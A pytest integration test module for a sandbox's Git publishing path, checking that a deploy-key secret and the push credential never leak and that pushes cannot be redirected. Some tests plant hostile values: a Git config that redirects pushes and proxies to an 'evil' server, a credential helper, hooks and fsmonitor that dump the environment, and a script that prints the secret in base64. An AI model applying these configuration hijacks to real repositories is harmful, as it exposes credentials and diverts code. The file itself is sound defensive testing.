"""A result on its way to a real Git server: hub, bridge and engine as they run in production.

What is planted as a secret (a project's secret, the publish credential) is searched for in every
place that lasts, and in every process.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest
from canary_parts import children_of, files_with, holds, processes_with

from engines import Engine
from git_server import PASSWORD, USERNAME, Fault, GitServer, git, git_server, make_credentials
from rig import Rig, wait_for

pytestmark = [pytest.mark.engine("d26"), pytest.mark.requirement("B-61", "B-62", "B-63")]

SECRET = f"canary of+a project/secret-81c3-{os.getpid()}"
CHANGE = ("sh", "-c", "echo changed > VERSION")
PAIR = f"{USERNAME}:{PASSWORD}"
PUBLISH_TTL_MS = 2_000


class Publishing(Rig):
    """A rig whose bridge pushes to a server of its own, and whose hub hands out secrets."""

    always: Mapping[str, str] = MappingProxyType({"FORGE_SANDBOX_PUBLICATION_MODE": "bridge_push"})

    def __init__(self, directory: Path, engine: Engine, runner_id: str, server: GitServer) -> None:
        super().__init__(directory, engine, runner_id)
        self.server = server
        url = server.create("sample", source=self.repository)
        git(self.repository, "remote", "add", "origin", url)
        # Beside the rig's own files, which are searched.
        self.sources = directory.with_name("sources")
        self.sources.mkdir(mode=0o700)
        self.remote_url = url
        self.credentials = self.point_at(url)
        self.secrets = self.sources / "secrets"
        for path in (self.secrets, self.secrets / "project"):
            path.mkdir(mode=0o700)
        (self.secrets / "project" / "DEPLOY_KEY").touch(mode=0o600)
        (self.secrets / "project" / "DEPLOY_KEY").write_text(f"{SECRET}\n")
        self._branches = 0

    def start(self) -> None:
        self.start_hub(
            FORGE_HUB_CREDENTIALS_DIRECTORY=str(self.credentials),
            FORGE_HUB_SECRETS_DIRECTORY=str(self.secrets),
            FORGE_HUB_PUBLISH_TTL_MS=str(PUBLISH_TTL_MS),
        )
        self.start_bridge()

    def point_at(self, url: str) -> Path:
        """What the hub believes the remote to be."""
        directory = self.sources / "credentials"
        return make_credentials(directory, url, project="project", repository="sample")

    def publish(self, *argv: str, **more: Any) -> tuple[str, str]:
        """A session, and the branch of its own that its result goes to."""
        self._branches += 1
        branch = f"forge/result-{self._branches}"
        wanted = {"publication": {"mode": "bridge_push"}, "branch": branch, **more}
        return self.dispatch(*(argv or CHANGE), **wanted), branch

    def at_the_remote(self, branch: str) -> str | None:
        return self.server.branch("sample", branch)

    def ended(self, session_id: str) -> dict[str, Any]:
        """The session, once it has its last state."""

        def look() -> dict[str, Any] | None:
            session: dict[str, Any] = self.get(f"/sessions/{session_id}")
            return session if session["endedAt"] else None

        return dict(wait_for(f"the end of {session_id}", look))


@pytest.fixture(scope="module")
def rig(
    engine: Engine, tmp_path_factory: pytest.TempPathFactory, module_runner_id: str
) -> Iterator[Publishing]:
    directory = tmp_path_factory.mktemp("publishing")
    with git_server(directory / "served") as server:
        rig = Publishing(directory / "rig", engine, module_runner_id, server)
        try:
            rig.start()
            yield rig
        finally:
            server.fault = Fault()
            server.released.set()
            rig.close()


@pytest.fixture(autouse=True)
def calm(rig: Publishing) -> Iterator[None]:
    """Each test begins with a server that does what it should."""
    rig.server.fault = Fault()
    rig.server.entered.clear()
    rig.server.seen.clear()
    yield
    rig.server.fault = Fault()


def searched(rig: Publishing) -> None:
    """Nothing that lasts holds a secret: state root, clone, logs, database, Docker."""
    assert files_with(rig.directory, SECRET, PASSWORD, PAIR) == []
    wanted = json.dumps({"label": [f"dev.forge.runner-id={rig.runner_id}"]})
    api = rig.engine.api
    for container in api.get("/containers/json", {"all": "1", "filters": wanted}):
        kept = Path(api.get("/info")["DockerRootDir"]) / "containers" / container["Id"]
        assert files_with(kept, SECRET, PASSWORD, PAIR) == []
        inspected = json.dumps(api.get(f"/containers/{container['Id']}/json")).encode()
        assert not holds(inspected, (SECRET, PASSWORD, PAIR))


@pytest.mark.requirement("B-60", "B-64")
def test_a_secret_goes_in_a_result_comes_out_and_neither_credential_is_anywhere(
    rig: Publishing,
) -> None:
    told = 'echo "$DEPLOY_KEY"; printf %s "$DEPLOY_KEY" | base64; '
    script = f'{told} test "${{#DEPLOY_KEY}}" = {len(SECRET)} && echo changed > VERSION'
    session_id, branch = rig.publish("sh", "-c", script, secrets=["DEPLOY_KEY"])
    session = rig.ended(session_id)
    assert (session["state"], session["publication"]["outcome"]) == ("succeeded", "pushed")
    assert session["publication"]["source"] == "runner"
    commit = session["result"]["resultCommit"]
    assert rig.at_the_remote(branch) == commit == session["publication"]["resultCommit"]
    served = rig.server.root / "sample.git"
    assert git(served, "rev-parse", f"{commit}^@") == rig.commit
    assert git(served, "show", f"{commit}:VERSION") == "changed"
    shown = rig.diagnostics(session_id)
    assert "***" in shown["logTail"]
    assert {(g["kind"], bool(g["redeemedAt"])) for g in shown["grants"]} == {
        ("secrets", True),
        ("publication", True),
    }
    types = [event["type"] for event in shown["timeline"]]
    assert types.index("secrets.redeemed") < types.index("publication.started")
    assert not holds(json.dumps(shown).encode(), (SECRET, PASSWORD, PAIR))
    rig.wait_over(session_id)
    searched(rig)


def test_while_git_pushes_only_its_environment_has_the_credential_and_cancel_ends_it(
    rig: Publishing,
) -> None:
    rig.server.fault.hang = "pushes"
    session_id, branch = rig.publish()
    assert rig.server.entered.wait(30)
    below = children_of(rig.bridge.pid) - {rig.bridge.pid}
    found = processes_with(PAIR, PASSWORD)
    assert found
    assert set(found) <= below, "a process that is not Git's has it"
    assert {tuple(places) for places in found.values()} == {("environ",)}
    searched(rig)
    begun_s = time.monotonic()
    rig.post(f"/sessions/{session_id}/cancel", {"reason": "enough"})
    wait_for("the end of Git", lambda: not processes_with(PAIR, PASSWORD), 5)
    assert time.monotonic() - begun_s < 1.5, "a second for Git, the rest for this look"
    session = rig.ended(session_id)
    assert (session["state"], session["failureCode"]) == ("cancelled", "cancelled")
    assert rig.at_the_remote(branch) is None
    rig.server.fault.hang = None

    def told() -> dict[str, Any]:
        found: dict[str, Any] = rig.get(f"/sessions/{session_id}")["publication"]
        return found

    wait_for("the hub to have looked", lambda: told()["outcome"] == "aborted")
    assert told()["source"] == "hub"


@pytest.mark.requirement("B-64", "B-82")
def test_a_bridge_killed_between_push_and_report_has_published_once(rig: Publishing) -> None:
    rig.server.fault.lose_answer = True
    session_id, branch = rig.publish(retries=2)
    assert rig.server.entered.wait(30)
    commit = rig.at_the_remote(branch)
    assert commit is not None, "the push has arrived, its answer has not"
    rig.bridge.kill()
    wait_for("the end of its Git", lambda: not processes_with(PAIR, PASSWORD))
    searched(rig)
    rig.server.fault.lose_answer = False
    rig.start_bridge()
    session = rig.ended(session_id)
    assert session["state"] == "succeeded"
    (dispatch,) = session["attempts"][0]["dispatches"]
    assert [(p["outcome"], p["source"]) for p in dispatch["publications"]] == [
        ("unknown", "runner"),
        ("pushed", "hub"),
    ]
    assert dispatch["result"]["failureCode"] == "bridge_stopped"
    assert session["publication"]["resultCommit"] == commit == rig.at_the_remote(branch)
    assert rig.server.pushes == 1
    wait_for("the remains to be removed", lambda: not rig.resources())
    searched(rig)


@pytest.mark.requirement("B-64", "B-82")
def test_a_bridge_killed_before_its_push_arrives_is_dispatched_again_and_publishes(
    rig: Publishing,
) -> None:
    rig.server.fault.hang = "pushes"
    session_id, branch = rig.publish(retries=1)
    assert rig.server.entered.wait(30)
    rig.bridge.kill()
    rig.server.fault.hang = None
    rig.start_bridge()
    wait_for("settling", lambda: rig.get(f"/sessions/{session_id}")["state"] != "running")
    session = rig.ended(session_id)
    assert session["state"] == "succeeded"
    first, second = session["attempts"][0]["dispatches"]
    assert [p["outcome"] for p in first["publications"]] == ["unknown", "aborted"]
    assert [p["outcome"] for p in second["publications"]] == ["pushed"]
    assert rig.at_the_remote(branch) == session["result"]["resultCommit"]


@pytest.mark.requirement("B-64")
def test_a_human_who_pushes_meanwhile_is_not_overwritten(rig: Publishing) -> None:
    session_id, branch = rig.publish("sh", "-c", "sleep 1; echo changed > VERSION", retries=2)
    rig.wait_event(session_id, "agent.started")
    theirs = rig.server.commit("sample", branch, "a human's")
    session = rig.ended(session_id)
    assert (session["state"], session["failureCode"]) == ("failed", "publication_stale")
    assert session["publication"]["outcome"] == "stale_remote"
    assert rig.at_the_remote(branch) == theirs
    assert rig.server.pushes == 0


def test_the_hub_cannot_send_a_result_elsewhere(rig: Publishing) -> None:
    with git_server(rig.directory.parent / "elsewhere") as other:
        url = other.create("sample", source=rig.repository)
        rig.point_at(url)
        try:
            session_id, branch = rig.publish()
            session = rig.ended(session_id)
        finally:
            make_credentials(
                rig.credentials, rig.remote_url, project="project", repository="sample"
            )
        assert (session["state"], session["failureCode"]) == ("failed", "publication_denied")
        assert f"the remote of sample here is {rig.remote_url}" in session["result"]["summary"]
        assert other.seen == []
    assert rig.at_the_remote(branch) is None
    assert rig.server.seen == []


def test_the_clones_and_the_accounts_configuration_have_no_say(rig: Publishing) -> None:
    """Written while the bridge runs, as an operator might, or somebody who got into the clone."""
    marks = rig.directory.parent / "marks"
    marks.mkdir()
    program = rig.directory.parent / "program"
    program.write_text(f"#!/bin/sh\ntouch {marks}/$$\nenv > {marks}/env.$$\n")
    program.chmod(0o755)
    with git_server(rig.directory.parent / "evil") as evil:
        evil.create("sample", source=rig.repository)
        base = rig.remote_url.removesuffix("sample.git")
        hostile = (
            f'[url "{evil.url}/"]\n\tinsteadOf = {base}\n\tpushInsteadOf = {base}\n'
            f"[credential]\n\thelper = {program}\n[core]\n\thooksPath = {marks.parent}/hooks\n"
            f"\tfsmonitor = {program}\n\taskPass = {program}\n"
            f"[http]\n\tproxy = {evil.url}\n\tfollowRedirects = true\n[push]\n\tgpgSign = true\n"
        )
        (marks.parent / "hooks").mkdir()
        hooks = [marks.parent / "hooks", rig.repository / ".git" / "hooks"]
        for directory in hooks:
            directory.mkdir(exist_ok=True)
            (directory / "pre-push").write_text(program.read_text())
            (directory / "pre-push").chmod(0o755)
        config = rig.repository / ".git" / "config"
        honest = config.read_text()
        home = rig.directory / ".gitconfig"  # HOME of the rig's processes
        try:
            config.write_text(honest + hostile)
            home.write_text(hostile)
            session_id, branch = rig.publish()
            session = rig.ended(session_id)
        finally:
            config.write_text(honest)
            home.unlink()
        assert session["state"] == "succeeded", session["result"]
        assert evil.seen == []
    assert rig.at_the_remote(branch) == session["result"]["resultCommit"]
    assert list(marks.iterdir()) == []
